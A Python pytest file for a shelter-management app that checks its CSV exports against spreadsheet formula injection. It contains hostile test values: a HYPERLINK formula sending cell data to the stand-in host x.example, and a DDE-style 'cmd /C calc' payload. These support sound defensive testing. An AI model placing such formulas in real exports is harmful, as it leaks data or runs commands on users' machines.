"""No cell of a CSV the app writes can act as a formula in a spreadsheet (finding 7 of
issue 13): a room named `=HYPERLINK(...)` went into the stays export as it was."""

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest

import shelter_app
from shelter_app.reports.shared.spreadsheet import FORMULA_STARTS, csv_writer, safe_cell

HOSTILE_ROOM = '=HYPERLINK("http://x.example/?d="&A1,"Klik")'


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def formula_like(rows) -> list[str]:
    """Cells a spreadsheet would run: starting like a formula and not a plain number."""
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_is_written_as_text(start):
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([start + "cmd|' /C calc'!A0", "Mawar " + start])
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [("'" + start + "cmd|' /C calc'!A0").replace("\r", "\n"),
                   ("Mawar " + start).replace("\r", "\n")]  # only the start changes


def test_a_carriage_return_inside_text_cannot_start_a_row_of_its_own():
    out = io.StringIO()
    csv_writer(out).writerow(["Mawar\r=1+1", 5])
    assert "\r" not in out.getvalue()
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["Mawar\n=1+1", "5"]]


def test_numbers_and_harmless_text_are_not_changed():
    """A cost of -5000 held as a number stays a number a spreadsheet can add up; text is
    left alone unless it starts like a formula."""
    out = io.StringIO()
    csv_writer(out).writerows([[-5000, Decimal("-12.50"), 0, None, dt.date(2026, 1, 2),
                                "Melati", "RA-2026-0001", "1", "'quoted", "a=b", ""]])
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["-5000", "-12.50", "0", "", "2026-01-02", "Melati", "RA-2026-0001", "1",
                   "'quoted", "a=b", ""]
    assert safe_cell(-1) == -1 and safe_cell("-1") == "'-1"  # text is text, whatever it says


@pytest.fixture
def hostile_shelter(tmp_path, clock):
    """The demo shelter with someone moved into a room named like a formula."""
    from shelter_app.services.administration import demo
    from shelter_app.services.residents import rooms

    workspace = demo.create_demo(tmp_path / "demo", residents=12, days=30, clock=clock)
    rooms.create_room(workspace, HOSTILE_ROOM, "female", 1)
    bed = next(bed for room in rooms.board(workspace) if room.name == HOSTILE_ROOM
               for bed in room.beds)
    present = next(room_bed.occupant.person_id for room in rooms.board(workspace)
                   for room_bed in room.beds
                   if room_bed.occupant is not None and room_bed.occupant.sex == "F")
    rooms.transfer(workspace, present, bed.bed_id)
    yield workspace
    if not workspace.is_locked:
        workspace.close_database()


def test_the_stays_export_writes_a_formula_room_name_as_text(hostile_shelter, tmp_path):
    from shelter_app.services.residents import reports

    path = tmp_path / "stays.csv"
    reports.export_stays(hostile_shelter, path)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    rooms = {row["room"] for row in rows}
    assert "'" + HOSTILE_ROOM in rooms and HOSTILE_ROOM not in rooms
    assert formula_like([row.values() for row in rows]) == []
    assert all(row["stay_id"].isdigit() for row in rows)  # numbers are not mangled


def every_csv_the_app_writes(workspace, folder: Path) -> dict[str, Path]:
    from shelter_app.services.counselling import reports as sessions
    from shelter_app.services.overview import monthly
    from shelter_app.services.provisions import reports as provisions
    from shelter_app.services.referrals import reports as referrals
    from shelter_app.services.residents import reports as residents
    from shelter_app.services.shared import reporting

    today = workspace.clock().date()
    period = reporting.period(today - dt.timedelta(days=30), today)
    written = {}
    for name, write in (("monthly", monthly.write), ("sessions", sessions.write),
                        ("provisions", provisions.write), ("referrals", referrals.write),
                        ("occupancy", residents.write_occupancy)):
        written[name] = folder / f"{name}.csv"
        write(workspace, period, written[name], "csv", "en")
    written["stays"] = folder / "stays.csv"
    residents.export_stays(workspace, written["stays"])
    written["provision rows"] = folder / "provision-rows.csv"
    provisions.export(workspace, written["provision rows"])
    return written


def test_no_csv_the_app_writes_holds_a_cell_a_spreadsheet_would_run(hostile_shelter,
                                                                     tmp_path):
    for name, path in every_csv_the_app_writes(hostile_shelter, tmp_path).items():
        rows = list(csv.reader(path.open(encoding="utf-8")))
        assert len(rows) > 1, name
        assert formula_like(rows) == [], name


def test_every_csv_writer_of_the_app_is_the_shared_one():
    """A new export must not bring its own csv.writer (or a spreadsheet library). The one
    reader of registers brought in (storage/spreadsheet_reader.py) may use openpyxl: it
    reads, read-only, and writes nothing; so may `make screenshots`, which writes a sample
    register to show that import."""
    package = Path(shelter_app.__file__).parent
    shared = package / "reports" / "shared" / "spreadsheet.py"
    may_use_openpyxl = {package / "storage" / "spreadsheet_reader.py",
                        package / "gui" / "screenshots.py"}
    found = []
    for source in package.rglob("*.py"):
        if source == shared:
            continue
        for node in ast.walk(ast.parse(source.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
                    and node.value.id == "csv" and node.attr in ("writer", "DictWriter")):
                found.append(f"{source.relative_to(package)}:{node.lineno}")
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [alias.name for alias in node.names] + [getattr(node, "module", "")]
                library = {name.split(".")[0] for name in names if name}
                if library & {"xlsxwriter", "xlwt"} or (
                        "openpyxl" in library and source not in may_use_openpyxl):
                    found.append(f"{source.relative_to(package)}:{node.lineno}")
    assert found == []
